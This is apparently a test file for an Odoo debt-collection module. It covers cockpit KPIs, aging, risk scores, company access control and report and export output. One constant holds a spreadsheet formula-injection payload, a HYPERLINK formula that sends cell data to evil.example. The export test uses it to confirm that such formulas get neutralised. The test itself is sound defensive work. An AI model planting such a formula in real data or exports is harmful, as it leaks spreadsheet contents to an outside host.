import base64
import csv
import io
from datetime import datetime, time, timedelta

import openpyxl
from odoo import Command, fields
from odoo.exceptions import AccessError
from odoo.tests import HttpCase, tagged

from .common import CollectionCommon, overdue_invoice


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@tagged("post_install", "-at_install")
class TestCockpit(CollectionCommon):
    """Cockpit, monthly report, aging analysis and exports on real posted invoices."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.today = fields.Date.context_today(cls.env["account.move"])
        cls.date_from = cls.today - timedelta(days=30)
        cls.cockpit = cls.env["collection.cockpit"]
        inv = cls._collection_invoice
        cls.inv_not_due = inv(100.0, due_in=10)
        cls.inv_15 = inv(200.0, due_in=-15)
        cls.inv_45 = inv(300.0, due_in=-45)
        cls.inv_75 = inv(400.0, due_in=-75)
        cls.inv_120 = inv(500.0, due_in=-120)
        cls.inv_partial = inv(250.0, due_in=-20)
        cls.inv_paid = inv(150.0, due_in=-3)
        level = cls.env.ref("smart_collection.collection_scenario_standard").level_ids[:1]
        cls.level = level
        sent_at = datetime.combine(cls.today - timedelta(days=2), time(9))
        cls.env["collection.dispatch"].create(
            [
                {
                    "invoice_id": invoice.id,
                    "partner_id": invoice.partner_id.id,
                    "company_id": cls.company.id,
                    "level_id": level.id,
                    "channel": channel,
                    "state": "sent",
                    "planned_date": sent_at.date(),
                    "sent_at": sent_at,
                    "amount_residual": invoice.amount_residual,
                }
                for invoice, channel in ((cls.inv_paid, "email"), (cls.inv_45, "sms"))
            ]
        )

    def setUp(self):
        super().setUp()
        self._collection_pay_in_full(self.inv_paid)
        self._collection_pay_in_full(self.inv_partial, amount=50.0)

    def _kpis(self, **filters):
        return self.cockpit._collection_kpis(self.date_from, self.today, **filters)

    def _kpis_for(self, date_from, date_to):
        return self.cockpit._collection_kpis(date_from, date_to, company_ids=[self.company.id])

    def _open_residual(self, company):
        lines = self.env["account.move.line"].search(
            [
                ("company_id", "=", company.id),
                ("parent_state", "=", "posted"),
                ("account_id.account_type", "=", "asset_receivable"),
                ("reconciled", "=", False),
            ]
        )
        return sum(lines.mapped("amount_residual"))

    def test_dashboard_and_report_show_the_same_figures(self):
        dashboard = self.cockpit.collection_cockpit_data(
            self.date_from, self.today, company_ids=[self.company.id]
        )["kpis"]
        wizard = self.env["collection.report.wizard"].create(
            {"date_from": self.date_from, "date_to": self.today,
             "company_ids": [Command.set(self.company.ids)]}
        )
        values = self.env["report.smart_collection.report_collection_monthly"]._get_report_values(
            wizard.ids
        )
        report = self.cockpit._collection_jsonable(values["reports"][0]["kpis"])
        self.assertEqual(dashboard, report)
        trend = values["reports"][0]["trend"]
        self.assertEqual(len(trend), 6)
        # The trend's summary figures are the full computation's figures.
        month = self._kpis_for(self.today.replace(day=1), self.today)
        self.assertEqual(
            (trend[-1]["dso"], trend[-1]["cei"], trend[-1]["collected"]),
            (month["dso"], month["cei"], month["collected_total"]),
        )

    def test_figures_on_known_invoices(self):
        kpis = self._kpis(company_ids=[self.company.id])
        aging = {code: float(v) for code, v in kpis["aging"].items()}
        self.assertEqual(
            aging,
            {"not_due": 100.0, "1_30": 400.0, "31_60": 300.0, "61_90": 400.0,
             "over_90": 500.0},
        )
        self.assertEqual(float(kpis["collected_total"]), 200.0)
        self.assertEqual(
            {k: float(v) for k, v in kpis["collected_by_channel"].items()},
            {"email": 150.0, "none": 50.0},
        )
        self.assertEqual(
            {(r["channel"], r["sent"], r["paid"]) for r in kpis["effectiveness"]},
            {("email", 1, 1), ("sms", 1, 0)},
        )
        # 1 700 open, 1 600 overdue
        self.assertEqual(float(kpis["overdue_rate"]), 94.1)
        # Opening 0, sales 1 900, closing 1 700 of which 100 not due
        # → (1 900 − 1 700) / (1 900 − 100) = 11.1 %
        self.assertEqual(float(kpis["cei"]), 11.1)
        self.assertGreater(kpis["dso"], 0)
        self.assertEqual(kpis["riskiest"][0]["partner_id"], self.customer.id)
        forecast = sum(float(r["amount"]) for r in kpis["forecast"])
        self.assertEqual(forecast, 1700.0)
        # Seen yesterday, before today's payments: 150 + 50 more were open.
        yesterday = self.cockpit._collection_kpis(
            self.date_from, self.today - timedelta(days=1), company_ids=[self.company.id]
        )
        self.assertEqual(float(yesterday["open_total"]), 1900.0)
        self.assertEqual(float(yesterday["aging"]["1_30"]), 600.0)
        self.assertEqual(float(yesterday["collected_total"]), 0.0)

    def test_aging_adds_up_to_open_residuals(self):
        kpis = self._kpis(company_ids=[self.company.id])
        expected = self._open_residual(self.company)
        self.assertAlmostEqual(float(sum(kpis["aging"].values())), expected, places=2)
        self.assertAlmostEqual(float(kpis["open_total"]), expected, places=2)
        rows = self.env["collection.report.aging"].search([("company_id", "=", self.company.id)])
        self.assertAlmostEqual(sum(rows.mapped("amount_residual")), expected, places=2)
        by_bucket = {}
        for row in rows:
            by_bucket[row.bucket] = by_bucket.get(row.bucket, 0) + row.amount_residual
        self.assertEqual(by_bucket, {k: float(v) for k, v in kpis["aging"].items() if v})

    def test_filters_salesperson_and_customer_tag(self):
        tag = self.env["res.partner.category"].create({"name": "Key accounts"})
        other = self._customer("Fromagerie Durand", category_id=[Command.set(tag.ids)])
        self._collection_invoice(70.0, due_in=-10, partner=other)
        kpis = self._kpis(company_ids=[self.company.id], category_id=tag.id)
        self.assertEqual(float(kpis["open_total"]), 70.0)
        nobody = self.env["res.users"].create({"name": "Nobody", "login": "nobody_cockpit"})
        self.assertEqual(float(self._kpis(user_id=nobody.id)["open_total"]), 0.0)

    def test_risk_scores_and_predicted_dates(self):
        risky = self._customer("Garage Risque")
        self._collection_invoice(60.0, due_in=-2, partner=risky)
        risky.write({"collection_risk_score": 87.5, "collection_risk_class": "E"})
        self.customer.collection_risk_score = 10.0
        # Predicted in three weeks instead of overdue now.
        self.inv_120.collection_predicted_pay_date = self.today + timedelta(weeks=3)
        kpis = self._kpis(company_ids=[self.company.id])
        top = kpis["riskiest"][0]
        self.assertEqual((top["partner_id"], top["score"], top["risk_class"]),
                         (risky.id, 87.5, "E"))
        self.assertEqual(kpis["riskiest"][1]["partner_id"], self.customer.id)
        forecast = {row["week"]: float(row["amount"]) for row in kpis["forecast"]}
        week = (self.today + timedelta(weeks=3)).isocalendar()
        self.assertEqual(forecast[f"{week[0]}-W{week[1]:02d}"], 500.0)
        row = self.env["collection.report.aging"].search([("move_id", "=", self.inv_120.id)])
        self.assertEqual(row.expected_date, self.today + timedelta(weeks=3))
        self.assertEqual(row.predicted_pay_date, self.today + timedelta(weeks=3))

    def _export(self, export_type, file_format):
        wizard = self.env["collection.export.wizard"].create(
            {"export_type": export_type, "file_format": file_format,
             "date_from": self.date_from, "date_to": self.today,
             "company_ids": [Command.set(self.company.ids)]}
        )
        action = wizard.action_export()
        self.assertIn("download=true", action["url"])
        return base64.b64decode(wizard.data)

    def test_exports_neutralise_formulas(self):
        evil = self._customer("Evil", ref="-1+1")
        evil.name = EVIL
        invoice = self._collection_invoice(80.0, due_in=-5, partner=evil)

        rows = list(csv.reader(io.StringIO(self._export("open_items", "csv").decode("utf-8-sig"))))
        evil_rows = [r for r in rows if invoice.name in r]
        self.assertEqual(len(evil_rows), 1)
        self.assertIn("'" + EVIL, evil_rows[0])
        self.assertIn("'-1+1", evil_rows[0])
        self.assertIn("80.00", evil_rows[0])  # an amount stays a number
        for row in rows:
            for cell in row:
                if not _is_number(cell):  # -10 days overdue is a number, not a formula
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell)

        sheet = openpyxl.load_workbook(io.BytesIO(self._export("open_items", "xlsx"))).active
        cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
        self.assertIn("'" + EVIL, [c.value for c in cells])
        self.assertFalse([c for c in cells if c.data_type == "f"])
        self.assertIn(80.0, [c.value for c in cells])

        payments = openpyxl.load_workbook(io.BytesIO(self._export("payments", "xlsx"))).active
        paid = [r for r in payments.iter_rows(values_only=True) if self.inv_paid.name in r]
        self.assertEqual(len(paid), 1)
        self.assertIn(150.0, paid[0])
        dispatches = self._export("dispatches", "csv").decode("utf-8-sig")
        self.assertIn(self.inv_45.name, dispatches)

    def test_company_user_sees_only_own_company(self):
        company_b = self.setup_other_company(name="Company B")["company"]
        self.env["account.move"].with_company(company_b).create(
            {
                "move_type": "out_invoice",
                "partner_id": self.customer.id,
                "invoice_date": self.today - timedelta(days=40),
                "invoice_date_due": self.today - timedelta(days=35),
                "invoice_payment_term_id": False,
                "invoice_line_ids": [
                    Command.create({"name": "B", "quantity": 1, "price_unit": 9000.0,
                                    "tax_ids": []})
                ],
            }
        ).action_post()
        self.assertAlmostEqual(self._open_residual(company_b), 9000.0, places=2)
        user_a = self.env["res.users"].create(
            {
                "name": "Collector A",
                "login": "collector_a_cockpit",
                "company_id": self.company.id,
                "company_ids": [Command.set(self.company.ids)],
                "groups_id": [Command.set(
                    [self.env.ref("smart_collection.group_collection_user").id,
                     self.env.ref("base.group_user").id]
                )],
            }
        )
        # The administrator, allowed in both, sees B.
        both = self.cockpit.with_context(
            allowed_company_ids=[self.company.id, company_b.id]
        )._collection_kpis(self.date_from, self.today)
        self.assertAlmostEqual(float(both["open_total"]), 1700.0 + 9000.0, places=2)

        cockpit_a = self.cockpit.with_user(user_a)
        asked_b = cockpit_a._collection_kpis(
            self.date_from, self.today, company_ids=[self.company.id, company_b.id]
        )
        self.assertEqual(asked_b["company_ids"], self.company.ids)
        self.assertAlmostEqual(float(asked_b["open_total"]), 1700.0, places=2)
        only_b = cockpit_a.collection_cockpit_data(
            self.date_from, self.today, company_ids=[company_b.id]
        )["kpis"]
        self.assertEqual(only_b["open_total"], 0.0)
        self.assertEqual(only_b["riskiest"], [])
        with self.assertRaises(AccessError):
            cockpit_a.with_context(
                allowed_company_ids=[self.company.id, company_b.id]
            )._collection_kpis(self.date_from, self.today)

        exported = self.env["collection.export.wizard"].with_user(user_a).create(
            {"export_type": "open_items", "file_format": "csv"}
        )
        exported.action_export()
        csv_a = base64.b64decode(exported.data).decode("utf-8-sig")
        self.assertIn("Boulangerie Martin", csv_a)
        self.assertNotIn("Company B", csv_a)
        self.assertNotIn("9000.00", csv_a)
        aging_a = self.env["collection.report.aging"].with_user(user_a)
        self.assertTrue(aging_a.search([]))
        self.assertFalse(aging_a.search([("company_id", "=", company_b.id)]))
        self.assertTrue(
            self.env["collection.report.aging"].search([("company_id", "=", company_b.id)])
        )
        # A user without the collection group gets no cockpit.
        plain = self.env["res.users"].create(
            {"name": "Plain", "login": "plain_cockpit",
             "groups_id": [Command.set([self.env.ref("base.group_user").id])]}
        )
        with self.assertRaises(AccessError):
            self.cockpit.with_user(plain).collection_cockpit_data(self.date_from, self.today)

    def test_report_html_contains_the_figures(self):
        wizard = self.env["collection.report.wizard"].create(
            {"date_from": self.date_from, "date_to": self.today,
             "company_ids": [Command.set(self.company.ids)]}
        )
        kpis = wizard._collection_kpis()
        html = self.env["ir.actions.report"]._render_qweb_html(
            "smart_collection.report_collection_monthly", wizard.ids
        )[0].decode()
        self.assertIn("Collection report", html)
        self.assertIn(str(kpis["dso"]), html)
        self.assertIn(str(kpis["overdue_rate"]), html)
        if kpis["cei"] is not None:
            self.assertIn(str(kpis["cei"]), html)
        self.assertIn("Boulangerie Martin", html)
        action = wizard.action_print()
        # The report action, possibly behind the document layout configurator
        self.assertIn("smart_collection.report_collection_monthly", str(action))
        # The cockpit's button prints the same report with its own filters.
        from_cockpit = self.cockpit.collection_print_report(
            fields.Date.to_string(self.date_from), fields.Date.to_string(self.today),
            company_ids=[self.company.id],
        )
        self.assertIn("smart_collection.report_collection_monthly", str(from_cockpit))


@tagged("post_install", "-at_install")
class TestCockpitScreen(HttpCase):
    """The cockpit opens in the browser with its cards and filters."""

    def test_cockpit_screen(self):
        env = self.env
        customer = env["res.partner"].create(
            {"name": "Cockpit Risk Co", "is_company": True, "collection_risk_score": 95.0,
             "collection_risk_class": "E"}
        )
        overdue_invoice(env, customer)
        self.start_tour("/odoo/action-smart_collection.action_collection_cockpit",
                        "smart_collection_cockpit", login="admin")
